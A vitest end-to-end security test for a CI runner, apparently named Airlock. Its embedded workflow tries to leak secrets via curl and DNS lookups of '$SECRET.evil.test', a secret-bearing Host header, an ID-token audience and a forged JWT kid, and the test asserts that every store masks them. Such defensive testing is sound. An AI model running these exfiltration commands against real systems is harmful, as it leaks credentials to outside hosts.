import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditRecord } from "../../src/audit/events.js";
import type { RunView } from "../../src/controller/views.js";
import type { Flow } from "../../src/network/proxy/flow-log.js";
import { Airlock, type CliResult, GitRepo, jobByKey, runIdOf } from "../e2e/cli-harness.js";

/**
 * A job that holds secrets and tries to get them stored somewhere other than its (masked) log:
 *
 * - host names: `curl http(s)://$SECRET.evil.test` through the proxy (plain and CONNECT), the same
 *   name lower-cased and hex-encoded, a Host header holding a secret, and DNS lookups of such
 *   names. The proxy and the resolver record these (flows, `egress.denied`,
 *   `egress.dns_refused`, the controller's log) and lower-case them on the way.
 * - the ID-token endpoint: `&audience=$SECRET` (the audience is stored with the token's record).
 * - the secrets broker: a name it did not declare, a "name" that is a secret value, a forged token
 *   whose `kid` header is a secret value (every verifier records the kid of what it rejects).
 * - workflow commands (`::error::`, `::warning::`) and a step output holding a secret.
 *
 * Afterwards no form of either secret may appear in flows, the audit log, `airlock job`,
 * `airlock runs show`, the controller's log, or any byte of the database files.
 * Network: the job's allowlist names only `allowed.invalid`, so nothing is ever resolved or
 * connected outside the job's namespace: every attempt is refused by Airlock itself.
 */
const owner = "sec-attacks";
const repoName = `${owner}/app`;
const nonce = randomBytes(5).toString("hex");
// A host-name-shaped secret with capitals (the resolver lower-cases it) that is also a valid
// secret *name* (letters and digits), and one with characters no host name may hold.
const HOSTY = `AtkHost${nonce}Zq`;
const WEIRD = `w!rd~${nonce}#x`;
const OTHER = `other-undeclared-${nonce}`;

/** Every spelling of a value a store or a log could hold if it were not masked. */
function forms(v: string): Record<string, string> {
  return {
    raw: v,
    lower: v.toLowerCase(),
    upper: v.toUpperCase(),
    hex: Buffer.from(v).toString("hex"),
    base64: Buffer.from(v).toString("base64").slice(0, -4),
  };
}

const workflow = `on: push
jobs:
  attacker:
    runs-on: airlock
    secrets: [HOSTY, WEIRD]
    permissions:
      id-token: write
    egress:
      allow: [allowed.invalid]
    outputs:
      weird: \${{ steps.out.outputs.weird }}
    steps:
      - id: out
        env:
          H: \${{ secrets.HOSTY }}
          W: \${{ secrets.WEIRD }}
        run: |
          set +e
          echo "form-q: $(printf %q "$W")"
          echo "form-Q: $\{W@Q}"
          printf 'form-crlf: %s\\r\\n' "$W"
          echo "form-b64: $(printf 'xx%s' "$W" | base64)"
          echo "::error title=boom::annotated $W"
          echo "::warning file=$H.txt::warned $H"
          c="curl -sS --max-time 5 -o /dev/null"
          lower=$(printf %s "$H" | tr A-Z a-z)
          hex=$(printf %s "$H" | xxd -p -c0)
          $c "http://$H.evil.test/"; echo "attack proxy-http: $?"
          $c "https://$H.evil.test/"; echo "attack proxy-connect: $?"
          $c "http://x.$lower.evil.test:8080/"; echo "attack proxy-lower: $?"
          $c "http://$hex.evil.test/"; echo "attack proxy-hex: $?"
          getent hosts "$H.evil.test"; echo "attack dns: $?"
          getent hosts "$hex.evil.test"; echo "attack dns-hex: $?"
          # A Host header no host name could be, on tcp/80 to the job's own gateway (redirected to
          # the proxy inside the job's namespace): the proxy records what the job sent.
          python3 - "$W" <<'PY'
          import os, socket, sys
          gateway = os.environ["HTTP_PROXY"].split("//", 1)[1].rstrip("/").rsplit(":", 1)[0]
          s = socket.create_connection((gateway, 80), timeout=5)
          s.sendall(("GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % sys.argv[1]).encode())
          try:
              print("attack host-header:", s.recv(200).split(b"\\r\\n")[0].decode())
          except Exception as e:
              print("attack host-header:", type(e).__name__)
          PY
          # The ID-token endpoint, asked for a token whose audience is the secret.
          aud=$(curl -s --noproxy '*' -o /dev/null -w '%{http_code}' \\
            -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=$H")
          echo "attack audience: $aud"
          tok=$(curl -fsS --noproxy '*' -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" \\
            "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=$AIRLOCK_SECRETS_AUDIENCE" | python3 -c 'import json,sys; print(json.load(sys.stdin)["value"])')
          ex() {
            curl -s --noproxy '*' -o /dev/null -w '%{http_code}' -X POST -H "Authorization: bearer $1" \\
              -H 'content-type: application/json' -d "$2" "$AIRLOCK_SECRETS_URL"
          }
          echo "attack undeclared: $(ex "$tok" '{"secrets":["OTHER"]}')"
          echo "attack name-is-secret: $(ex "$tok" "{\\"secrets\\":[\\"$H\\"]}")"
          forged=$(python3 - "$H" "$tok" <<'PY'
          import base64, json, sys
          b = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")
          parts = sys.argv[2].split(".")
          print(b({"alg": "ES256", "kid": sys.argv[1], "typ": "JWT"}) + "." + parts[1] + "." + parts[2])
          PY
          )
          echo "attack forged-kid: $(ex "$forged" '{"secrets":["HOSTY"]}')"
          echo "attack entitled: $(ex "$tok" '{"secrets":["HOSTY","WEIRD"]}')"
          echo "weird=$W" >> "$GITHUB_OUTPUT"
          echo harmless > out.txt
          exit 0
      # An artifact, so the job's provenance (with its egress summary from the flow log) is signed.
      - uses: actions/upload-artifact@v4
        with:
          name: out
          path: out.txt
`;

let airlock: Airlock;
let repo: GitRepo;
let result: CliResult;
let run: RunView;
let jobId: string;
let logs: string;
let flows: Flow[];
let audit: AuditRecord[];

beforeAll(async () => {
  airlock = Airlock.create("secret-attacks", {
    config: { sandbox: { uidBase: 436_000, uidCount: 64 }, network: { pool: "10.236.0.0/16" } },
    // The resolver's refusals and proxy errors are logged at info/warn: the log is attacked too.
    env: { AIRLOCK_LOG_LEVEL: "info" },
  });
  repo = GitRepo.create("secret-attacks", { ".airlock/workflows/ci.yml": workflow });
  const added = await airlock.cli("repo", "add", repoName, "--source", repo.dir);
  expect(added.status, added.stderr).toBe(0);
  for (const [name, value] of [
    ["HOSTY", HOSTY],
    ["WEIRD", WEIRD],
    ["OTHER", OTHER],
  ] as const) {
    const r = await airlock.cliWith({ input: value }, "secret", "set", name, "--repo", repoName);
    expect(r.status, r.stderr).toBe(0);
  }
  result = await airlock.cli("run", repoName);
  run = await airlock.run(runIdOf(result.stdout));
  jobId = jobByKey(run, "attacker").id;
  logs = await airlock.logs(jobId);
  flows = await airlock.egressFlows(jobId);
  audit = await airlock.audit();
}, 240_000);

afterAll(() => {
  airlock?.cleanup();
  repo?.cleanup();
});

function expectNoSecretIn(where: string, text: string): void {
  for (const [name, value] of Object.entries({ HOSTY, WEIRD, OTHER })) {
    for (const [form, encoded] of Object.entries(forms(value))) {
      expect(text.includes(encoded), `${name} ${form} in ${where}`).toBe(false);
    }
  }
}

const attack = (label: string) => new RegExp(`attack ${label}: (\\S+)`).exec(logs)?.[1];

describe("secrets in host names a job connects to or looks up", () => {
  it("ran every attack", () => {
    expect(result.status, result.stdout + result.stderr).toBe(0);
    for (const label of ["proxy-http", "proxy-connect", "proxy-lower", "proxy-hex", "dns", "host-header"]) {
      expect(attack(label), label).toBeDefined();
    }
  });

  it("records the denied flows with the secret masked, never in clear or lower case", () => {
    const denied = flows.filter((f) => f.decision === "denied");
    // http, CONNECT, lower-cased, hex: each a denied flow whose host hides the secret.
    const masked = denied.filter((f) => f.host.includes("***"));
    expect(masked.length, JSON.stringify(flows)).toBeGreaterThanOrEqual(4);
    expect(masked.some((f) => f.host === "***.evil.test" && f.protocol === "connect")).toBe(true);
    expect(masked.some((f) => f.host === "***.evil.test" && f.protocol === "http")).toBe(true);
    expect(masked.some((f) => f.host === "x.***.evil.test" && f.port === 8080)).toBe(true);
    // A Host header that is no host name at all is recorded as sent: masked whole.
    expect(denied.some((f) => f.rule === "invalid-host" && f.host === "***")).toBe(true);
    expectNoSecretIn("airlock egress flows", JSON.stringify(flows));
  });

  it("audits the denials and the refused lookups with the secret masked", () => {
    const mine = audit.filter((r) => r.jobId === jobId);
    const deniedHosts = mine.filter((r) => r.type === "egress.denied").map((r) => String(r.data.host));
    expect(deniedHosts).toContain("***.evil.test");
    const refusedNames = mine.filter((r) => r.type === "egress.dns_refused").map((r) => String(r.data.name));
    expect(refusedNames).toContain("***.evil.test");
    expectNoSecretIn("the audit log", JSON.stringify(audit));
  });

  it("keeps the controller's log (pino) free of the secret", () => {
    expect(result.stderr).toMatch(/"name":"\*\*\*\.evil\.test"[^\n]*"msg":"dns refused"/);
    expectNoSecretIn("the controller's log and run output", result.stdout + result.stderr);
  });
});

describe("secrets in what the job sends to Airlock's own endpoints", () => {
  it("refuses an ID token whose audience is a secret, and records no audience", () => {
    expect(attack("audience")).toBe("400");
    const denied = audit.filter((r) => r.jobId === jobId && r.type === "identity.token_request_denied");
    expect(denied.map((r) => r.data.reason)).toContain("audience_holds_secret");
    const rows = airlock.query<{ audience: string }>(
      "select audience from id_tokens where job_id = ?",
      jobId,
    );
    expect(rows.length).toBeGreaterThan(0);
    expectNoSecretIn("id_tokens.audience", JSON.stringify(rows));
  });

  it("refuses an undeclared secret and a secret value sent as a name, recording neither value", () => {
    expect(attack("undeclared")).toBe("403");
    expect(attack("name-is-secret")).toBe("403");
    const denials = audit.filter((r) => r.jobId === jobId && r.type === "secret.denied");
    const undeclared = denials.filter((r) => r.data.reason === "not_declared");
    expect(undeclared.map((r) => r.data.undeclared)).toEqual([["OTHER"], ["***"]]);
    expect(undeclared[1]?.data.requested).toEqual(["***"]);
  });

  it("refuses a forged token whose kid is a secret without recording the kid", () => {
    expect(attack("forged-kid")).toBe("401");
    const forged = audit.filter((r) => r.type === "secret.denied" && r.data.reason === "token_malformed");
    expect(forged.map((r) => r.data.kid)).toContain("***");
  });

  it("still grants what the job declared", () => {
    expect(attack("entitled")).toBe("200");
  });
});

describe("shell-quoted and encoded forms in a real step", () => {
  it("masks printf %q, the @Q quoting, CRLF lines and base64 at an offset", () => {
    for (const label of ["form-q", "form-Q", "form-crlf", "form-b64"]) {
      const line = logs.split("\n").find((l) => l.startsWith(`${label}: `));
      expect(line, label).toBeDefined();
      expect(line, label).toContain("***");
    }
    const quoted = execFileSync("bash", ["-c", 'printf %q "$1"; echo; printf %s "$' + '{1@Q}"', "q", WEIRD], {
      encoding: "utf8",
    });
    for (const form of quoted.split("\n")) expect(logs, form).not.toContain(form);
  });
});

describe("secrets in workflow commands and outputs", () => {
  it("masks ::error:: and ::warning:: annotations like any log line", () => {
    const annotated = logs.split("\n").filter((l) => l.includes("annotated") || l.includes("warned"));
    expect(annotated).toHaveLength(2);
    for (const l of annotated) expect(l).toContain("***");
    expectNoSecretIn("airlock logs", logs);
  });

  it("does not store a secret as a job output, nor show it in `airlock job` or `runs show`", async () => {
    const job = await airlock.job(jobId);
    expect(job.outputs.weird ?? "***").toBe("***");
    expectNoSecretIn("airlock job", JSON.stringify(job));
    expectNoSecretIn("airlock runs show", JSON.stringify(await airlock.run(run.id)));
  });
});

describe("provenance", () => {
  it("signs an egress summary whose hosts are masked", async () => {
    expect(await airlock.artifacts(run.id)).toHaveLength(1);
    const rows = airlock.query<{ bundle: string }>("select bundle from provenance_bundles");
    expectNoSecretIn("provenance bundles", JSON.stringify(rows));
    // The DSSE payload is base64, and so is each byproduct in it: decode both and look inside.
    type Statement = { predicate?: { runDetails?: { byproducts?: { name: string; content: string }[] } } };
    const unb64 = (b: string) => Buffer.from(b, "base64").toString("utf8");
    const statements = rows.map((r) =>
      unb64((JSON.parse(r.bundle) as { dsseEnvelope: { payload: string } }).dsseEnvelope.payload),
    );
    const byproducts = statements.flatMap((t) =>
      ((JSON.parse(t) as Statement).predicate?.runDetails?.byproducts ?? []).map((b) => ({
        name: b.name,
        text: unb64(b.content),
      })),
    );
    const egress = byproducts.find((b) => b.name === "egress-flows")?.text ?? "";
    expect(egress).toContain('"host":"***.evil.test"');
    const decoded = [...statements, ...byproducts.map((b) => b.text)].join("\n");
    expectNoSecretIn("decoded provenance", decoded);
  });
});

describe("at rest", () => {
  it("leaves no form of any secret in the database, its WAL or shared memory", () => {
    const bytes = airlock.databaseBytes();
    expectNoSecretIn("the database files (latin1)", bytes.toString("latin1"));
    expectNoSecretIn("the database files (utf8)", bytes.toString("utf8"));
  });

  it("leaves no form of any secret in any file of the data directory (bundles, blobs, keys)", () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile()) files.push(p);
      }
    };
    walk(airlock.dataDir);
    expect(files.length).toBeGreaterThan(3);
    // Signed provenance is stored base64 in a DSSE envelope: decode every base64 run we find too.
    for (const f of files) {
      const text = readFileSync(f).toString("latin1");
      expectNoSecretIn(f, text);
      for (const b64 of text.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []) {
        expectNoSecretIn(`${f} (base64-decoded)`, Buffer.from(b64, "base64").toString("latin1"));
      }
    }
  });
});
